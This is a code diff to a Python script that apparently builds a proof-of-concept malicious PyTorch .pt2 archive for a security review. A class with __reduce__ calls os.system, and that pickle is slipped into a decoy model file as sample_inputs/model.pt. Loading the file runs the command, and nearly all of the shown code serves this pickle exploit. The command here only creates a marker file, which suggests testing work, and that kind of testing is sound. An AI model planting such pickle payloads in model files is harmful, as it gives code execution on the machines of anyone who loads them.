@@ -7,20 +7,12 @@ import torch, zipfile, io, os, pickle, collections, sys
 out = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else "pt2_legacy_storage.pt2"
 here = os.path.dirname(os.path.abspath(__file__))
 sys.path.insert(0, os.path.join(here, ".."))
-from pt2_decoy import decoy_pickle, export_base  # noqa: E402
+from pt2_decoy import export_base, with_decoy_sample  # noqa: E402
 base = os.path.join(here, "base.pt2")
 export_base(base)
 class P:
     def __reduce__(s): return (os.system, ("touch /tmp/review39/pwned_pt2_legacy_storage",))
 nested = pickle.dumps(P(), protocol=2)
 
-zin = zipfile.ZipFile(base)
-names = [i.filename for i in zin.infolist()]
-with zipfile.ZipFile(out, "w") as zo:
-    for i in zin.infolist():
-        d = zin.read(i.filename)
-        if i.filename.endswith("sample_inputs/model.pt"):
-            d = nested
-        zo.writestr(i, d)
-    zo.writestr("base/data.pkl", decoy_pickle([("sample_inputs/model.pt", len(nested))]))
+with_decoy_sample(base, out, nested)
 print("written", out)
